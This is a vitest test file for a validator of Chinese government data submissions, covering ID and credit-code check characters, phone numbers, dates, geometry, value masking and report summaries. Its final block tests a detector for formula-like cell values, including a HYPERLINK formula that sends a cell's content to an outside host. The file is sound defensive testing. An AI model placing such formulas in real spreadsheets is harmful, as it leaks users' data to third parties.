import { describe, expect, it } from 'vitest';
import type { DataItem, DataType } from '../../catalog/index.ts';
import { creditCodeCheckCharacter, idNumberCheckCharacter } from '../../../shared/identifiers.ts';
import {
  checkGeometry,
  createValidator,
  normalisePhone,
  ValidationReport,
  type RowResult,
  type TypedValue,
  type ValidationRule,
} from './validation.ts';
import { maskValue } from '../../security/index.ts';
import { mergeReports } from '../push/push-sessions.ts';

function item(
  name: string,
  label: string,
  dataType: DataType,
  length: number | null = null,
  required = false,
  sensitivity: DataItem['sensitivity'] = 1,
): DataItem {
  return { name, label, dataType, length, required, sensitivity, description: null };
}

/** Validates one value in a one-item row; returns the typed value or the rule broken. */
function one(
  it: DataItem,
  value: string | null,
  options: Parameters<typeof createValidator>[1] = {},
): { value: TypedValue | null; rule: ValidationRule | null; zh: string | null } {
  const result = createValidator([it], options).validate([value]);
  const problem = result.problems[0];
  return {
    value: result.values[it.name] ?? null,
    rule: problem?.rule ?? null,
    zh: problem?.message.zh ?? null,
  };
}

const ID = item('id_number', '公民身份号码', 'id_number', 18, true, 4);
const CREDIT = item('credit_code', '统一社会信用代码', 'credit_code', 18, true, 1);

/** Worked out by hand in shared/identifiers.test.ts. */
const VALID_IDS = ['210102199003071233', '11010519491231002X', '210102199003071241', '210102199003071110'];
const VALID_CREDIT_CODES = ['91350100M000100Y43', '91210102MA0QXKJ14M', '12210102D2143569X5'];

const SHENYANG_DISTRICTS = [
  '210102',
  '210103',
  '210104',
  '210105',
  '210106',
  '210111',
  '210112',
  '210113',
  '210114',
  '210115',
  '210123',
  '210124',
  '210181',
];

function idWithCheck(first17: string): string {
  const check = idNumberCheckCharacter(first17);
  if (check === null) throw new Error(`no check character for ${first17}`);
  return first17 + check;
}

function creditWithCheck(first17: string): string {
  const check = creditCodeCheckCharacter(first17);
  if (check === null) throw new Error(`no check character for ${first17}`);
  return first17 + check;
}

/** Any check character but the right one. */
function wrongLast(code: string, alphabet: string): string {
  const last = code.charAt(code.length - 1);
  const other = [...alphabet].find((c) => c !== last) ?? '0';
  return code.slice(0, -1) + other;
}

describe('required', () => {
  const name = item('name', '姓名', 'string', 50, true, 3);

  it.each([null, '', '   ', '\t\n'])(
    'reports a missing required value (%j) with the Chinese label',
    (value) => {
      const result = createValidator([name]).validate([value]);
      expect(result.valid).toBe(false);
      expect(result.filled).toEqual([false]);
      expect(result.values).toEqual({ name: null });
      expect(result.problems).toEqual([
        {
          row: 1,
          column: '姓名',
          field: 'name',
          value,
          rule: 'required',
          message: { zh: '“姓名”为必填项，不能为空', en: '姓名 (name) is required' },
        },
      ]);
    },
  );

  it('accepts a missing optional value as null', () => {
    const result = createValidator([item('former_name', '曾用名', 'string', 50)]).validate(['  ']);
    expect(result).toMatchObject({
      valid: true,
      problems: [],
      values: { former_name: null },
      filled: [false],
    });
  });

  it('trims a string value', () => {
    expect(one(name, '  张伟 ').value).toBe('张伟');
  });
});

describe('length', () => {
  const address = item('address', '住所', 'string', 10);

  it('counts characters, not bytes', () => {
    // Ten Chinese characters are 30 bytes in UTF-8 and still fit a length of 10.
    expect(one(address, '沈阳市和平区南京北街').rule).toBeNull();
    expect(one(address, '沈阳市和平区南京北街1').rule).toBe('length');
    expect(one(address, '沈阳市和平区南京北街1').zh).toBe('“住所”长度为 11 个字符，超过上限 10');
  });

  it('counts a character outside the BMP once', () => {
    expect(one(item('s', '名称', 'string', 3), '𠀀ab').rule).toBeNull();
    expect(one(item('s', '名称', 'string', 3), '𠀀abc').rule).toBe('length');
  });

  it('counts the digits of integers and the significant digits of decimals', () => {
    const aqi = item('aqi', '空气质量指数', 'integer', 3);
    expect(one(aqi, '500').value).toBe(500);
    expect(one(aqi, '-500').value).toBe(-500);
    expect(one(aqi, '1000').rule).toBe('length');
    expect(one(aqi, '0007').value).toBe(7);
    const temperature = item('temperature', '气温（℃）', 'decimal', 5);
    expect(one(temperature, '123.45').value).toBe('123.45');
    expect(one(temperature, '0.00012').value).toBe('0.00012');
    expect(one(temperature, '123.456').rule).toBe('length');
    expect(one(temperature, '123.456').zh).toBe('“气温（℃）”共 6 位有效数字，超过上限 5 位');
  });

  it('limits a phone value to its length', () => {
    expect(one(item('phone', '联系电话', 'phone', 12), '024-22001234-8001').rule).toBe('length');
  });
});

describe('integer', () => {
  const count = item('count', '事故起数', 'integer', 20);

  it.each([
    ['42', 42],
    ['+7', 7],
    ['-15', -15],
    ['-0', 0],
    ['1,234,567', 1234567],
    ['１２３', 123],
    ['9007199254740991', 9007199254740991],
    ['12345678901234567890', '12345678901234567890'],
    ['-12345678901234567890', '-12345678901234567890'],
  ])('reads %s as %j', (text, value) => {
    expect(one(count, text)).toEqual({ value, rule: null, zh: null });
  });

  it.each(['1.0', '1,23', '12,3456', '1e5', '1E+5', 'abc', '3 5', '--1', '+', '5%', '¥5'])(
    'rejects %s',
    (text) => {
      expect(one(count, text).rule).toBe('integer');
    },
  );

  it('says why 1e5 is rejected', () => {
    expect(one(count, '1e5').zh).toBe('“事故起数”不接受科学计数法：1e5');
  });
});

describe('decimal', () => {
  const amount = item('amount', '金额（元）', 'decimal', 18);

  it.each([
    ['123.456789', '123.456789'],
    ['-0.50', '-0.50'],
    ['.5', '0.5'],
    ['1.', '1'],
    ['-0.0', '0.0'],
    ['0012.30', '12.30'],
    ['1,234.5', '1234.5'],
    ['+3', '3'],
    ['１２．５', '12.5'],
    ['123456789012345678', '123456789012345678'],
  ])('reads %s as %s (exact, without exponent)', (text, value) => {
    expect(one(amount, text)).toEqual({ value, rule: null, zh: null });
  });

  it.each(['1.2E+5', '1e-3', '12.3.4', '1,23.4', '.', '-', '1 000', '12元', 'NaN', 'Infinity'])(
    'rejects %s',
    (text) => {
      expect(one(amount, text).rule).toBe('decimal');
    },
  );

  it('checks the range of longitude and latitude items', () => {
    const lon = item('longitude', '经度', 'decimal', 12, true);
    const lat = item('latitude', '纬度', 'decimal', 12, true);
    expect(one(lon, '123.456789').value).toBe('123.456789');
    expect(one(lon, '-180').value).toBe('-180');
    expect(one(lon, '180.000001').rule).toBe('coordinates');
    expect(one(lat, '41.8').value).toBe('41.8');
    expect(one(lat, '-90').value).toBe('-90');
    expect(one(lat, '90.5').rule).toBe('coordinates');
    expect(one(lat, '90.5').zh).toBe('“纬度”超出范围（纬度 −90～90）');
  });
});

describe('date', () => {
  const date = item('establish_date', '成立日期', 'date', 10, true);

  it.each([
    '2026-03-05',
    '2026-3-5',
    '2026/03/05',
    '2026/3/5',
    '2026.03.05',
    '20260305',
    '2026年3月5日',
    '2026年03月05日',
    '２０２６－０３－０５',
    ' 2026-03-05 ',
  ])('reads %s as 2026-03-05', (text) => {
    expect(one(date, text)).toEqual({ value: '2026-03-05', rule: null, zh: null });
  });

  it.each(['2024-02-29', '2000-02-29', '1900-01-01', '2199-12-31'])('accepts %s', (text) => {
    expect(one(date, text).value).toBe(text);
  });

  it.each([
    ['2026-02-30', '“成立日期”不是有效的日期：2026年2月30日不存在'],
    ['2023-02-29', '“成立日期”不是有效的日期：2023年2月29日不存在'],
    ['1900-02-29', '“成立日期”不是有效的日期：1900年2月29日不存在'],
    ['2026-04-31', '“成立日期”不是有效的日期：2026年4月31日不存在'],
    ['2026-13-01', '“成立日期”不是有效的日期：2026年13月1日不存在'],
    ['2026-00-10', '“成立日期”不是有效的日期：2026年0月10日不存在'],
    ['1899-12-31', '“成立日期”的年份应在 1900 至 2199 之间'],
    ['2200-01-01', '“成立日期”的年份应在 1900 至 2199 之间'],
  ])('rejects %s', (text, zh) => {
    expect(one(date, text)).toEqual({ value: null, rule: 'date', zh });
  });

  it.each(['2026/03-05', '26-03-05', '2026-03-05 08:00:00', '2026-3', '202635', '5/3/2026', '2026年3月'])(
    'rejects the format %s',
    (text) => {
      expect(one(date, text).rule).toBe('date');
    },
  );
});

describe('datetime', () => {
  const time = item('monitor_time', '监测时间', 'datetime', 19, true);

  it.each([
    ['2026-03-05 08:30:00', '2026-03-05T08:30:00+08:00'],
    ['2026-03-05T08:30:00', '2026-03-05T08:30:00+08:00'],
    ['2026/3/5 8:30', '2026-03-05T08:30:00+08:00'],
    ['20260305 23:59:59', '2026-03-05T23:59:59+08:00'],
    ['2026年3月5日 08:30', '2026-03-05T08:30:00+08:00'],
    ['2026-03-05T00:30:00Z', '2026-03-05T00:30:00Z'],
    ['2026-03-05T08:30:00.123+0000', '2026-03-05T08:30:00.123+00:00'],
    ['2026-03-05 08:30:00 -05:30', '2026-03-05T08:30:00-05:30'],
  ])('reads %s as %s', (text, value) => {
    expect(one(time, text)).toEqual({ value, rule: null, zh: null });
  });

  it.each([
    '2026-03-05 24:00:00',
    '2026-03-05 08:60',
    '2026-03-05 08:30:60',
    '2026-02-30 08:00:00',
    '2026-03-05',
    '08:30',
    '2026-03-05 08:30:00+15:00',
    '1899-12-31 23:00',
  ])('rejects %s', (text) => {
    expect(one(time, text).rule).toBe('datetime');
  });
});

describe('boolean', () => {
  const flag = item('has_shelter', '是否有候车亭', 'boolean');

  it.each([
    ['true', true],
    ['FALSE', false],
    ['Yes', true],
    ['no', false],
    ['Y', true],
    ['n', false],
    ['1', true],
    ['0', false],
    ['是', true],
    ['否', false],
    ['有', true],
    ['无', false],
    ['１', true],
  ])('reads %s as %s', (text, value) => {
    expect(one(flag, text).value).toBe(value);
  });

  it.each(['2', '对', 'ok', '是的', '-1'])('rejects %s', (text) => {
    expect(one(flag, text)).toMatchObject({ rule: 'boolean', zh: '“是否有候车亭”应为“是”或“否”' });
  });
});

describe('phone', () => {
  it.each([
    ['13812345678', '13812345678'],
    ['138 1234 5678', '13812345678'],
    ['138-1234-5678', '13812345678'],
    ['+86 138 1234 5678', '13812345678'],
    ['+8613812345678', '13812345678'],
    ['008613812345678', '13812345678'],
    ['8613812345678', '13812345678'],
    ['１３８１２３４５６７８', '13812345678'],
    ['19912345678', '19912345678'],
    ['024-22001234', '024-22001234'],
    ['02422001234', '024-22001234'],
    ['(024)22001234', '024-22001234'],
    ['（024）22001234', '024-22001234'],
    ['024 2200 1234', '024-22001234'],
    ['010-12345678', '010-12345678'],
    ['0411-8765432', '0411-8765432'],
    ['041187654321', '0411-87654321'],
    ['024-22001234-801', '024-22001234-801'],
    ['024-22001234转801', '024-22001234-801'],
    ['02422001234 ext 8', '024-22001234-8'],
    ['+86-24-22001234', '024-22001234'],
    ['+86 411 87654321', '0411-87654321'],
    ['12345', '12345'],
    ['024-96789', '024-96789'],
    ['95588', '95588'],
    ['400-810-8888', '400-810-8888'],
    ['4008108888', '400-810-8888'],
  ])('reads %s as %s', (text, value) => {
    expect(normalisePhone(text.normalize('NFKC'))).toBe(value);
    expect(one(item('phone', '联系电话', 'phone', 20), text).value).toBe(value);
  });

  it.each([
    '12812345678',
    '1381234567',
    '138123456789',
    '22001234',
    '024-2200123',
    '0241-2200123',
    '0411-876543',
    '0411-876543210',
    '13812345678、13912345678',
    '+86 12345',
    '24-22001234',
    '123',
    'abc',
  ])('rejects %s', (text) => {
    expect(one(item('phone', '联系电话', 'phone', 40), text).rule).toBe('phone');
  });
});

describe('公民身份号码', () => {
  it.each(VALID_IDS)('accepts the hand-checked number %s', (id) => {
    expect(one(ID, id)).toEqual({ value: id, rule: null, zh: null });
  });

  it('accepts computed numbers for every Shenyang district, both sexes and the leap day', () => {
    for (const division of SHENYANG_DISTRICTS) {
      for (const [birth, seq] of [
        ['19650101', '011'],
        ['19881231', '122'],
        ['20000229', '573'],
        ['20120615', '998'],
      ] as const) {
        const id = idWithCheck(`${division}${birth}${seq}`);
        expect(one(ID, id).rule, id).toBeNull();
        expect(one(ID, wrongLast(id, '0123456789X')).rule, id).toBe('id_number');
      }
    }
  });

  it('upper-cases a final x', () => {
    expect(one(ID, '11010519491231002x').value).toBe('11010519491231002X');
  });

  it.each([
    ['210102199003071234', '“公民身份号码”的校验码不正确'],
    ['21010219900307123X', '“公民身份号码”的校验码不正确'],
    ['210102199002301236', '“公民身份号码”中的出生日期无效'],
    ['210102900307123', '“公民身份号码”为15位旧号码，应换算为18位'],
    ['2101021990030712', '“公民身份号码”应为18位（17位数字加1位数字或X）'],
    ['2101021990030712X3', '“公民身份号码”应为18位（17位数字加1位数字或X）'],
    ['990102199003071233', '“公民身份号码”的前6位不是有效的行政区划代码'],
  ])('rejects %s', (id, zh) => {
    expect(one(ID, id)).toEqual({ value: null, rule: 'id_number', zh });
  });

  it('rejects a bad birth date even when the check character fits', () => {
    // 2023-02-29 does not exist; the check character is computed so that only the date is wrong.
    const id = idWithCheck('21010220230229123');
    expect(one(ID, id).zh).toBe('“公民身份号码”中的出生日期无效');
  });

  it('rejects a birth date after the latest allowed', () => {
    const id = idWithCheck('21010220260316123');
    expect(one(ID, id).rule).toBeNull();
    expect(one(ID, id, { latestBirthDate: '2026-03-15' }).rule).toBe('id_number');
    expect(one(ID, id, { latestBirthDate: '2026-03-16' }).rule).toBeNull();
  });
});

describe('统一社会信用代码', () => {
  it.each(VALID_CREDIT_CODES)('accepts the hand-checked code %s', (code) => {
    expect(one(CREDIT, code)).toEqual({ value: code, rule: null, zh: null });
  });

  it('accepts computed codes for Shenyang enterprises, individual businesses and institutions', () => {
    // Organisation codes with their GB 11714 check characters: MA0QXKJ1-4, D2143569-X, M000100Y-4.
    for (const division of SHENYANG_DISTRICTS) {
      for (const [kind, org] of [
        ['91', 'MA0QXKJ14'],
        ['92', 'D2143569X'],
        ['12', 'M000100Y4'],
        ['52', 'MA0QXKJ14'],
      ] as const) {
        const code = creditWithCheck(`${kind}${division}${org}`);
        expect(one(CREDIT, code).rule, code).toBeNull();
        expect(one(CREDIT, wrongLast(code, '0123456789ABCDEFGHJKLMNPQRTUWXY')).rule, code).toBe(
          'credit_code',
        );
      }
    }
  });

  it('upper-cases lower case letters', () => {
    expect(one(CREDIT, '91350100m000100y43').value).toBe('91350100M000100Y43');
  });

  it.each([
    ['91350100M000100Y44', '“统一社会信用代码”的校验码不正确'],
    ['91350100M000100Y4', '“统一社会信用代码”应为18位'],
    ['91350100I000100Y43', '“统一社会信用代码”含有不允许的字符（只能是数字和除 I、O、S、V、Z 外的大写字母）'],
    // The GB 32100 check character fits, the organisation code's own check does not (4, not 2).
    ['91210102MA0QXKJ12F', '“统一社会信用代码”第9至17位的组织机构代码校验码不正确'],
  ])('rejects %s', (code, zh) => {
    expect(one(CREDIT, code)).toEqual({ value: null, rule: 'credit_code', zh });
  });

  it('rejects wrong structure even with a fitting check character', () => {
    expect(one(CREDIT, creditWithCheck('B1210102MA0QXKJ14')).zh).toBe(
      '“统一社会信用代码”第1位不是有效的登记管理部门代码',
    );
    expect(one(CREDIT, creditWithCheck('94210102MA0QXKJ14')).zh).toBe(
      '“统一社会信用代码”第2位不是该登记管理部门的机构类别代码',
    );
    expect(one(CREDIT, creditWithCheck('91000000MA0QXKJ14')).zh).toBe(
      '“统一社会信用代码”第3至8位不是有效的行政区划代码',
    );
  });
});

describe('geometry', () => {
  const geom = item('geometry', '管线走向', 'geometry', null, true, 3);
  const line = {
    type: 'LineString',
    coordinates: [
      [123.4, 41.8],
      [123.41, 41.81],
    ],
  };

  it('accepts GeoJSON text, a Feature, WKT and a geometry given with the row', () => {
    expect(one(geom, JSON.stringify(line)).value).toEqual(line);
    expect(one(geom, JSON.stringify({ type: 'Feature', properties: {}, geometry: line })).value).toEqual(
      line,
    );
    expect(one(geom, 'LINESTRING (123.4 41.8, 123.41 41.81)').value).toEqual(line);
    expect(one(geom, 'SRID=4490;POINT(123.4 41.8)').value).toEqual({
      type: 'Point',
      coordinates: [123.4, 41.8],
    });
    const result = createValidator([geom]).validate([null], { geometry: line });
    expect(result).toMatchObject({ valid: true, values: { geometry: line }, filled: [true] });
  });

  it('reads polygons and multi-geometries from WKT', () => {
    expect(checkGeometry('POLYGON((123 41, 124 41, 124 42, 123 41))')).toEqual({
      ok: true,
      value: {
        type: 'Polygon',
        coordinates: [
          [
            [123, 41],
            [124, 41],
            [124, 42],
            [123, 41],
          ],
        ],
      },
    });
    expect(checkGeometry('MULTIPOINT ((1 2), (3 4))')).toEqual({
      ok: true,
      value: {
        type: 'MultiPoint',
        coordinates: [
          [1, 2],
          [3, 4],
        ],
      },
    });
    expect(checkGeometry('MULTIPOINT (1 2, 3 4)').ok).toBe(true);
    expect(checkGeometry('MULTIPOLYGON (((0 0, 1 0, 1 1, 0 0)))').ok).toBe(true);
  });

  it.each([
    ['{"type":"Point","coordinates":[190,41.8]}', 'coordinates'],
    ['{"type":"Point","coordinates":[123.4,95]}', 'coordinates'],
    ['POINT(123.4 -91)', 'coordinates'],
    ['{"type":"Point","coordinates":[123.4]}', 'geometry'],
    ['{"type":"Point","coordinates":["123.4","41.8"]}', 'geometry'],
    ['{"type":"LineString","coordinates":[[123.4,41.8]]}', 'geometry'],
    ['{"type":"Polygon","coordinates":[[[0,0],[1,0],[1,1],[0,1]]]}', 'geometry'],
    ['{"type":"Circle","coordinates":[0,0]}', 'geometry'],
    ['{"type":"MultiPoint","coordinates":[]}', 'geometry'],
    ['{"type":"Point",', 'geometry'],
    ['POINT(123.4)', 'geometry'],
    ['POINT(a b)', 'geometry'],
    ['CIRCLE(1 2)', 'geometry'],
    ['123.4,41.8', 'geometry'],
  ])('rejects %s (%s)', (text, rule) => {
    expect(one(geom, text).rule).toBe(rule);
  });

  it('says so in Chinese', () => {
    expect(one(geom, 'POINT(200 41)').zh).toBe('“管线走向”的坐标超出范围（经度 −180～180，纬度 −90～90）');
    expect(one(geom, 'here').zh).toBe('“管线走向”不是有效的 GeoJSON 几何对象或 WKT');
  });

  it('checks a geometry given with the row', () => {
    const result = createValidator([geom]).validate([null], {
      geometry: { type: 'Point', coordinates: [0, 100] },
    });
    expect(result.problems.map((p) => [p.rule, p.value])).toEqual([['coordinates', '********']]);
  });
});

describe('enumeration', () => {
  const status = item('status', '登记状态', 'string', 10, true);
  const options = { enumerations: { status: ['存续', '在业', '吊销', '注销', '迁出'] } };

  it('accepts listed values and rejects others', () => {
    expect(one(status, '存续', options).value).toBe('存续');
    expect(one(status, ' 注销 ', options).value).toBe('注销');
    expect(one(status, '开业', options)).toEqual({
      value: null,
      rule: 'enumeration',
      zh: '“登记状态”的取值不在代码表中（可选：存续、在业、吊销、注销、迁出）',
    });
  });

  it('checks the type first', () => {
    const level = item('level', '等级', 'integer', 1);
    expect(one(level, 'x', { enumerations: { level: ['1', '2'] } }).rule).toBe('integer');
    expect(one(level, '3', { enumerations: { level: ['1', '2'] } }).rule).toBe('enumeration');
    expect(one(level, '2', { enumerations: { level: ['1', '2'] } }).value).toBe(2);
  });
});

describe('text PostgreSQL cannot store', () => {
  const name = item('name', '企业名称', 'string', 100, true);
  const founded = item('founded', '成立日期', 'date');

  it('reports NUL and lone surrogates in any value under rule text, shown as ␀ and �, before other rules', () => {
    const result = createValidator([name, founded]).validate(['沈阳\u0000商贸', '2020-01-0\ud800'], {
      row: 7,
    });
    expect(result.valid).toBe(false);
    expect(result.problems.map((p) => [p.row, p.field, p.rule, p.value])).toEqual([
      [7, 'name', 'text', '沈阳␀商贸'],
      [7, 'founded', 'text', '2020-01-0�'],
    ]);
    expect(result.problems[0]?.message.zh).toBe('“企业名称”含有空字符（U+0000）');
    expect(result.values).toEqual({ name: null, founded: null });
  });

  it('keeps other control characters of a value (a cell may hold a tab or a line break)', () => {
    expect(one(name, '第一行\n第二行\t制表').value).toBe('第一行\n第二行\t制表');
  });
});

describe('problem values', () => {
  it('masks values of sensitive items in the style of REFERENCE.md', () => {
    const items = [
      ID,
      item('name', '姓名', 'string', 2, true, 3),
      item('mobile', '手机号码', 'phone', 20, false, 3),
      item('address', '户籍地址', 'string', 12, true, 4),
      item('balance', '账户余额（元）', 'decimal', 12, true, 4),
    ];
    const result = createValidator(items).validate([
      '210102199003071234',
      '欧阳娜娜',
      '13812345',
      '辽宁省沈阳市和平区南京北街1号',
      '12,34',
    ]);
    expect(result.problems.map((p) => [p.field, p.rule, p.value])).toEqual([
      ['id_number', 'id_number', '210102********1234'],
      ['name', 'length', '欧***'],
      ['mobile', 'phone', '138****2345'],
      ['address', 'length', '辽宁省沈阳市和平区****'],
      ['balance', 'decimal', '*****'],
    ]);
  });

  it('keeps values of public items and all values when masking is off', () => {
    const result = createValidator([ID, CREDIT], { maskSensitive: false }).validate([
      '210102199003071234',
      'X',
    ]);
    expect(result.problems.map((p) => p.value)).toEqual(['210102199003071234', 'X']);
    expect(createValidator([CREDIT]).validate(['91350100M000100Y44']).problems[0]?.value).toBe(
      '91350100M000100Y44',
    );
  });

  it('cuts long values to 200 characters', () => {
    const result = createValidator([item('code', '编码', 'string', 5)]).validate(['码'.repeat(300)]);
    expect(result.problems[0]?.value).toBe(`${'码'.repeat(200)}…`);
  });

  it('masks by type', () => {
    expect(maskValue('id_number', 'id_number', '21010219900307123')).toBe('210102*******7123');
    expect(maskValue('phone', 'mobile', '123')).toBe('***');
    expect(maskValue('string', 'holder_name', '张三')).toBe('张*');
  });
});

describe('rows', () => {
  const items = [item('a', '甲', 'integer', 3, true), item('b', '乙', 'string', 5)];

  it('numbers rows from 1 unless told', () => {
    const validator = createValidator(items);
    expect(validator.validate(['x', null]).problems[0]?.row).toBe(1);
    expect(validator.validate(['y', null]).problems[0]?.row).toBe(2);
    expect(validator.validate(['z', null], { row: 42 }).problems[0]?.row).toBe(42);
  });

  it('reports every field of a row and types the valid ones', () => {
    const result = createValidator(items).validate(['1234', '甲乙']);
    expect(result.valid).toBe(false);
    expect(result.values).toEqual({ a: null, b: '甲乙' });
    expect(result.problems.map((p) => p.field)).toEqual(['a']);
  });

  it('refuses a row that does not match the items', () => {
    expect(() => createValidator(items).validate(['1'])).toThrow(RangeError);
    expect(() => createValidator(items).validate(['1', '2', '3'])).toThrow(RangeError);
  });
});

describe('ValidationReport', () => {
  const items = [
    item('credit_code', '统一社会信用代码', 'credit_code', 18, true),
    item('phone', '联系电话', 'phone', 20),
    item('capital', '注册资本（万元）', 'decimal', 18),
  ];

  function run(rows: (string | null)[][], maxProblems?: number): ReturnType<ValidationReport['summary']> {
    const validator = createValidator(items);
    const report = new ValidationReport(items, maxProblems === undefined ? {} : { maxProblems });
    rows.forEach((row, i) => report.add(validator.validate(row, { row: i + 2 })));
    return report.summary();
  }

  it('counts rows, completeness and valid shares per field', () => {
    const summary = run([
      ['91350100M000100Y43', '024-22001234', '100'],
      ['91350100M000100Y44', null, '50.5'],
      [null, '13812345678', null],
      ['12210102D2143569X5', 'abc', '1e3'],
    ]);
    expect(summary).toMatchObject({
      totalRows: 4,
      validRows: 1,
      invalidRows: 3,
      problemCount: 4,
      problemsTruncated: false,
    });
    expect(summary.problemsByRule).toEqual({ credit_code: 1, required: 1, phone: 1, decimal: 1 });
    expect(summary.problems.map((p) => [p.row, p.field, p.rule])).toEqual([
      [3, 'credit_code', 'credit_code'],
      [4, 'credit_code', 'required'],
      [5, 'phone', 'phone'],
      [5, 'capital', 'decimal'],
    ]);
    expect(summary.fields).toEqual([
      {
        field: 'credit_code',
        column: '统一社会信用代码',
        dataType: 'credit_code',
        required: true,
        filled: 3,
        valid: 2,
        problems: 2,
        completeness: 0.75,
        validShare: 2 / 3,
      },
      {
        field: 'phone',
        column: '联系电话',
        dataType: 'phone',
        required: false,
        filled: 3,
        valid: 2,
        problems: 1,
        completeness: 0.75,
        validShare: 2 / 3,
      },
      {
        field: 'capital',
        column: '注册资本（万元）',
        dataType: 'decimal',
        required: false,
        filled: 3,
        valid: 2,
        problems: 1,
        completeness: 0.75,
        validShare: 2 / 3,
      },
    ]);
  });

  it('lists the first problems and counts all of them', () => {
    const rows = Array.from({ length: 1500 }, () => ['bad', null, null]);
    const summary = run(rows);
    expect(summary.problemCount).toBe(1500);
    expect(summary.problems).toHaveLength(1000);
    expect(summary.problemsTruncated).toBe(true);
    expect(summary.problems[999]?.row).toBe(1001);
    expect(summary.invalidRows).toBe(1500);
    expect(run(rows.slice(0, 10), 3).problems.map((p) => p.row)).toEqual([2, 3, 4]);
  });

  it('has null shares when there is nothing to share', () => {
    const summary = run([]);
    expect(summary.totalRows).toBe(0);
    expect(summary.fields.every((f) => f.completeness === null && f.validShare === null)).toBe(true);
    const empty = run([['91350100M000100Y43', null, null]]);
    expect(empty.fields[1]).toMatchObject({ filled: 0, completeness: 0, validShare: null });
  });

  it('is JSON', () => {
    const validator = createValidator(items);
    const report = new ValidationReport(items);
    report.add(validator.validate(['bad', '024-22001234', '1']));
    const parsed: unknown = JSON.parse(JSON.stringify(report));
    expect(parsed).toEqual(report.summary());
    expect(report.totalRows).toBe(1);
    expect(report.invalidRows).toBe(1);
  });

  it('refuses the result of another entry', () => {
    const other: RowResult = { row: 1, valid: true, problems: [], values: {}, filled: [true] };
    expect(() => new ValidationReport(items).add(other)).toThrow(RangeError);
  });
});

describe('formula-like values: a notice in the report, not an error', () => {
  const items = [
    item('name', '名称', 'string', 200),
    item('note', '备注', 'string', 200),
    item('amount', '金额', 'decimal', 12),
    item('count', '数量', 'integer', 6),
    item('owner', '联系人', 'string', 50, false, 3),
  ];
  const rows: (string | null)[][] = [
    ['=HYPERLINK("http://example.com/?q="&A1,"点击")', 'ok', '-3.5', '-7', '张三'],
    ['普通', '+86 24 2200', '1', '2', '=李四'],
    ['@SUM(A1:A9)', '-2+3', '-0.25', '-1', null],
    // Stored trimmed: a tab or spaces before = do not hide it.
    ['\t =1+1', null, null, null, null],
    ['a=b', 'x-y', null, null, null],
  ];
  function run(from: number, to: number) {
    const validator = createValidator(items);
    const report = new ValidationReport(items);
    rows.slice(from, to).forEach((r, i) => report.add(validator.validate(r, { row: from + i + 2 })));
    return report.summary();
  }

  it('counts per text item the values beginning with = + - @, with the first row and value; numbers are data', () => {
    const summary = run(0, rows.length);
    expect(summary.problemCount).toBe(0);
    expect(summary.validRows).toBe(rows.length);
    expect(summary.notices?.map(({ message: _, ...n }) => n)).toEqual([
      {
        code: 'formula_like',
        field: 'name',
        column: '名称',
        count: 3,
        firstRow: 2,
        firstValue: '=HYPERLINK("http://example.com/?q="&A1,"点击")',
      },
      {
        code: 'formula_like',
        field: 'note',
        column: '备注',
        count: 2,
        firstRow: 3,
        firstValue: '+86 24 2200',
      },
      // A sensitive item's value is masked, as in problems.
      { code: 'formula_like', field: 'owner', column: '联系人', count: 1, firstRow: 3, firstValue: '***' },
    ]);
    const name = summary.notices?.[0]?.message;
    expect(name?.zh).toContain('“名称”有 3 个值');
    expect(name?.zh).toContain('第 2 行');
    expect(name?.zh).toContain('公式');
    expect(name?.en).toContain('3 values of 名称 (name)');
    expect(name?.en).toContain('row 2');
  });

  it('has no notices when no value is formula-like', () => {
    expect(run(4, 5).notices).toEqual([]);
  });

  it('adds up over the batches of a push session, keeping the first row', () => {
    const merged = mergeReports(mergeReports(run(0, 1), run(1, 3)), run(3, 5));
    expect(merged.notices?.map((n) => [n.field, n.count, n.firstRow])).toEqual([
      ['name', 3, 2],
      ['note', 2, 3],
      ['owner', 1, 3],
    ]);
    expect(merged.notices?.[0]?.message.zh).toContain('有 3 个值');
    // A report stored before there were notices has none to add.
    const { notices: _, ...old } = run(0, 1);
    expect(mergeReports(old, run(1, 2)).notices?.map((n) => [n.field, n.count])).toEqual([
      ['note', 1],
      ['owner', 1],
    ]);
  });
});
